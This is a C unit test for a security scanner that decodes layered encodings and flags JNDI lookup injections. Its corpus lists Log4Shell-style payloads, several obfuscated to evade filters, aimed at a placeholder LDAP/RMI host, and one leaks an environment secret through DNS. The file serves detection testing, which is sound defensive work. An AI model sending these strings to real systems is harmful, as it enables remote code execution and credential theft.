@@ -1,0 +1,285 @@
+/* Tests of peeling in bulk: every text of a corpus, wrapped in every encoding and in every ordered
+ * pair of encodings, comes to what it comes to unwrapped; the gate has a pattern in each; and
+ * whether the cheap checks are asked or not makes no difference. */
+#include "sensor/codec/utf.h"
+#include "signatures/peel.h"
+#include "tests/unit/encode.h"
+#include "tests/unit/runner.h"
+
+#include <stdio.h>
+
+enum { CAP = 1 << 20, TOLD_MAX = 20 };
+
+static const struct span corpus[] = {
+    SPAN_LITERAL("${jndi:ldap://203.0.113.9:1389/a}"),
+    SPAN_LITERAL("x ${${::-j}${::-n}${::-d}${::-i}:${lower:RMI}://203.0.113.9/a b} y"),
+    SPAN_LITERAL("${${env:A:-j}ndi${sys:path.separator}dns://${env:SECRET}.example/${hostName}}"),
+    SPAN_LITERAL("${jnd${upper:\xc4\xb1}:ldaps://203.0.113.9/\xc3\xa4}"),
+    SPAN_LITERAL("$${jndi:ldap://203.0.113.9/escaped} ${z}"),
+    SPAN_LITERAL("${::-x$}{jndi:ldap://203.0.113.9/produced}"),
+    SPAN_LITERAL("{\"user\":\"${jndi:ldap://203.0.113.9/?a=1&b=%41+\\\"#<>}\"}"),
+    SPAN_LITERAL("${lower:${upper:${lower:${date:'j'}}}ndi:x} ${JnDi:ldap://[2001:db8::1]:99/}"),
+    SPAN_LITERAL("${jndi:ldap://203.0.113.9/unclosed"),
+    SPAN_LITERAL("${ jndi:ldap://203.0.113.9/attempt}"),
+    SPAN_LITERAL("#{jndi:ldap://203.0.113.9/attempt}"),
+    SPAN_LITERAL(
+        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa "
+        "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb "
+        "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc "
+        "${${x:-j}${y:-n}${zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz:-d}i:a:b} "
+        "dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd"),
+};
+
+static const struct span harmless[] = {
+    SPAN_LITERAL("The price is ${amount}, ${user.name:-friend}; see #{order} or $(date)."),
+    SPAN_LITERAL("{\"a\":[1,2,3],\"b\":\"caf\xc3\xa9\",\"c\":\"a=b&c=d%20e\"}"),
+    SPAN_LITERAL("jndi: the directory interface, ldap://directory.example/ in ${place}"),
+};
+
+static struct peeler *peeler;
+static struct match_db *gate;
+static struct match_scratch *scratch;
+static unsigned n_told;
+
+static int start(void)
+{
+    size_t n = peel_gate_n_patterns();
+    struct match_pattern patterns[512];
+    struct errbuf err = {0};
+    CHECK(n <= ARRAY_LEN(patterns));
+    for (size_t i = 0; i < n; i++) {
+        patterns[i] = peel_gate_pattern(i);
+    }
+    peeler = peeler_new();
+    int r = match_db_new(patterns, n, &gate, &err);
+    r = r == 0 ? match_scratch_fit(&scratch, gate) : r;
+    fputs(errbuf_text(&err), stderr);
+    errbuf_free(&err);
+    return peeler == NULL || r != 0;
+}
+
+static int end(void)
+{
+    peeler_free(&peeler);
+    match_scratch_free(&scratch);
+    match_db_free(&gate);
+    return 0;
+}
+
+static bool on_hit(void *ctx, uint32_t pattern, uint64_t at)
+{
+    (void)pattern;
+    (void)at;
+    *(bool *)ctx = true;
+    return false;
+}
+
+static bool gate_hits(struct span text)
+{
+    bool hit = false;
+    match_block(gate, scratch, text, on_hit, &hit);
+    return hit;
+}
+
+/* Class and names as one text; encodings where `to` is not NULL. */
+static enum lookup_class peel(struct span text, bool forced, struct sbuf *ret_names,
+                              struct encodings *ret_encodings)
+{
+    struct peel_hints hints = {.forced = forced};
+    struct peel_result result;
+    enum lookup_class class = peel_and_evaluate(peeler, text, &hints, &result);
+    sbuf_reset(ret_names);
+    sbuf_add_str(ret_names, lookup_class_name(class));
+    for (size_t i = 0; i < result.lookup.n_names; i++) {
+        sbuf_add_byte(ret_names, '\n');
+        sbuf_add(ret_names, result.lookup.names[i].text);
+    }
+    *ret_encodings = result.encodings;
+    CU_ASSERT(result.raw_off <= text.len && result.raw_len <= text.len - result.raw_off);
+    CU_ASSERT((class == LOOKUP_NONE) == (result.raw_len == 0));
+    return class;
+}
+
+static void tell(const char *what, const char *outer, const char *inner, struct span text,
+                 struct span got)
+{
+    if (n_told++ < TOLD_MAX) {
+        printf("%s: %s of %s: %.*s\n  got %.*s\n", what, outer, inner,
+               (int)(text.len < 200 ? text.len : 200), (const char *)text.data, (int)got.len,
+               (const char *)got.data);
+    }
+}
+
+static void check(struct span plain, struct span wrapped, const char *outer, const char *inner)
+{
+    struct sbuf expected = sbuf_with_cap(CAP);
+    struct sbuf names = sbuf_with_cap(CAP);
+    struct encodings encodings;
+    struct encodings forced_encodings;
+    (void)peel(plain, false, &expected, &encodings);
+    (void)peel(wrapped, true, &names, &forced_encodings);
+    bool right = span_equal(sbuf_span(&names), sbuf_span(&expected));
+    if (!right) {
+        tell("forced", outer, inner, wrapped, sbuf_span(&names));
+    }
+    CU_ASSERT(right);
+    (void)peel(wrapped, false, &names, &encodings);
+    bool same =
+        span_equal(sbuf_span(&names), sbuf_span(&expected)) && encodings.n == forced_encodings.n;
+    if (!same && right) {
+        tell("gate", outer, inner, wrapped, sbuf_span(&names));
+    }
+    CU_ASSERT(same || !right);
+    bool hit = gate_hits(wrapped);
+    if (!hit) {
+        tell("no pattern", outer, inner, wrapped, sbuf_span(&names));
+    }
+    CU_ASSERT(hit);
+    sbuf_free(&expected);
+    sbuf_free(&names);
+}
+
+static void the_corpus_is_found_as_it_stands(void)
+{
+    for (size_t i = 0; i < ARRAY_LEN(corpus); i++) {
+        struct sbuf names = sbuf_with_cap(CAP);
+        struct encodings encodings;
+        CU_ASSERT(peel(corpus[i], false, &names, &encodings) != LOOKUP_NONE);
+        CU_ASSERT_EQUAL(encodings.n, 0);
+        check(corpus[i], corpus[i], "nothing", "nothing");
+        sbuf_free(&names);
+    }
+}
+
+static void every_encoding_is_undone(void)
+{
+    for (size_t i = 0; i < ARRAY_LEN(corpus); i++) {
+        for (size_t e = 0; e < encoders_n(); e++) {
+            struct sbuf wrapped = sbuf_with_cap(CAP);
+            encoder_at(e)->encode(corpus[i], &wrapped);
+            check(corpus[i], sbuf_span(&wrapped), encoder_at(e)->name, "nothing");
+            sbuf_free(&wrapped);
+        }
+    }
+}
+
+/* Pairs that no reader could undo: characters made of bytes that were none (an overlong form can be
+ * told all the same); and the characters of UTF-7 are those of base64. */
+static bool makes_no_sense(const struct encoder *outer, const struct encoder *inner,
+                           struct span once)
+{
+    if (outer->encoding == ENCODING_UTF7 &&
+        (inner->encoding == ENCODING_BASE64 || inner->encoding == ENCODING_BASE64URL ||
+         inner->encoding == ENCODING_RFC2047)) {
+        return true;
+    }
+    return outer->of_characters && inner->encoding == ENCODING_UTF16 && !utf8_is_valid(once);
+}
+
+static void every_ordered_pair_is_undone(void)
+{
+    for (size_t i = 0; i < ARRAY_LEN(corpus); i++) {
+        for (size_t a = 0; a < encoders_n() * encoders_n(); a++) {
+            const struct encoder *inner = encoder_at(a / encoders_n());
+            const struct encoder *outer = encoder_at(a % encoders_n());
+            struct sbuf once = sbuf_with_cap(CAP);
+            struct sbuf twice = sbuf_with_cap(CAP);
+            inner->encode(corpus[i], &once);
+            outer->encode(sbuf_span(&once), &twice);
+            if (!makes_no_sense(outer, inner, sbuf_span(&once))) {
+                check(corpus[i], sbuf_span(&twice), outer->name, inner->name);
+            }
+            sbuf_free(&once);
+            sbuf_free(&twice);
+        }
+    }
+}
+
+/* Whether a pair leaves one way only to read it: neither encoder leaves the text as it is, and the
+ * outer one changes the openers of the inner one. */
+static bool is_plain_pair(const struct encoder *outer, const struct encoder *inner)
+{
+    static const char *const all[] = {"percent component", "percent all",      "percent u",
+                                      "html decimal",      "html hexadecimal", "json all",
+                                      "js hexadecimal",    "base64",           "qp all",
+                                      "words b",           "utf-16 le"};
+    static const char *const kept[] = {"base64", "words b"}; /* these show through escapes */
+    bool outer_known = false;
+    bool inner_known = false;
+    bool shows = false;
+    for (size_t i = 0; i < ARRAY_LEN(all); i++) {
+        outer_known = outer_known || span_equal(span_str(all[i]), span_str(outer->name));
+        inner_known = inner_known || span_equal(span_str(all[i]), span_str(inner->name));
+    }
+    for (size_t i = 0; i < ARRAY_LEN(kept); i++) {
+        shows = shows || span_equal(span_str(kept[i]), span_str(inner->name));
+    }
+    return outer_known && inner_known && !shows;
+}
+
+static void encodings_are_told_outermost_first(void)
+{
+    for (size_t a = 0; a < encoders_n() * encoders_n(); a++) {
+        const struct encoder *inner = encoder_at(a / encoders_n());
+        const struct encoder *outer = encoder_at(a % encoders_n());
+        if (!is_plain_pair(outer, inner)) {
+            continue;
+        }
+        struct sbuf once = sbuf_with_cap(CAP);
+        struct sbuf twice = sbuf_with_cap(CAP);
+        struct sbuf names = sbuf_with_cap(CAP);
+        struct encodings encodings;
+        inner->encode(corpus[0], &once);
+        outer->encode(sbuf_span(&once), &twice);
+        (void)peel(sbuf_span(&twice), false, &names, &encodings);
+        bool right = encodings.n == 2 && encodings.ids[0] == outer->encoding &&
+                     encodings.ids[1] == inner->encoding;
+        if (!right) {
+            sbuf_reset(&names);
+            for (size_t i = 0; i < encodings.n; i++) {
+                sbuf_add_format(&names, "%s ", encoding_name((enum encoding)encodings.ids[i]));
+            }
+            tell("encodings", outer->name, inner->name, sbuf_span(&twice), sbuf_span(&names));
+        }
+        CU_ASSERT(right);
+        sbuf_free(&once);
+        sbuf_free(&twice);
+        sbuf_free(&names);
+    }
+}
+
+static void harmless_texts_stay_harmless(void)
+{
+    for (size_t i = 0; i < ARRAY_LEN(harmless); i++) {
+        for (size_t a = 0; a < encoders_n() * encoders_n(); a++) {
+            struct sbuf once = sbuf_with_cap(CAP);
+            struct sbuf twice = sbuf_with_cap(CAP);
+            struct sbuf names = sbuf_with_cap(CAP);
+            struct encodings encodings;
+            encoder_at(a / encoders_n())->encode(harmless[i], &once);
+            encoder_at(a % encoders_n())->encode(sbuf_span(&once), &twice);
+            CU_ASSERT_EQUAL(peel(sbuf_span(&twice), false, &names, &encodings), LOOKUP_NONE);
+            sbuf_free(&once);
+            sbuf_free(&twice);
+            sbuf_free(&names);
+        }
+    }
+}
+
+static CU_TestInfo pair_tests[] = {
+    {"the corpus is found as it stands", the_corpus_is_found_as_it_stands},
+    {"every encoding is undone", every_encoding_is_undone},
+    {"every ordered pair is undone", every_ordered_pair_is_undone},
+    {"encodings are told outermost first", encodings_are_told_outermost_first},
+    {"harmless texts stay harmless", harmless_texts_stay_harmless},
+    CU_TEST_INFO_NULL,
+};
+
+int main(void)
+{
+    CU_SuiteInfo suites[] = {
+        {"pairs of encodings", start, end, NULL, NULL, pair_tests},
+        CU_SUITE_INFO_NULL,
+    };
+    return run_suites(suites);
+}
